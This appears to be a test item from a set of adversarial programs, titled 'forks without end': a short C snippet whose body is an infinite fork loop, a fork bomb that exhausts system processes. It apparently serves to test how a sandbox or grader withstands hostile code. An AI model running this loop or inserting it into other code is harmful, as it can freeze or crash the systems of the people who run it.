// adversarial 2.2: forks without end
// @helpers
#include <unistd.h>
// @body
    for (;;) fork();
